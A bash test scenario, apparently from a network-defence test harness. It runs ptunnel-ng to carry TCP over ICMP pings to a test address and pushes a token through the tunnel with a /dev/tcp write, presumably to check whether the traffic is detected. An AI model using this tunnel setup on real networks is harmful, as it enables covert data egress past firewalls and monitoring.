# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='ptunnel-ng: TCP over pings'
origin='ptunnel-ng 1.42 (Debian)'
reason='protocol'
who=root
PTUNNEL=$TOOLS/ptunnel-ng/usr/bin/ptunnel-ng
prepare() { [ -x "$PTUNNEL" ] || skip "no ptunnel-ng in $TOOLS"; }
attack() {
    local server client
    server=$(h a sh -c '"$0" > /dev/null 2>&1 & echo $!' "$PTUNNEL")
    client=$(client sh -c '"$0" -p 198.18.3.66 -l 6022 -r198.18.3.66 -R9999 > /dev/null 2>&1 & echo $!' "$PTUNNEL")
    eventually 15 client bash -c 'exec 3<> /dev/tcp/127.0.0.1/6022 && echo "$0" >&3 && sleep 0.4' "$1"
    linger "$1"
    kill "$server" "$client"
}
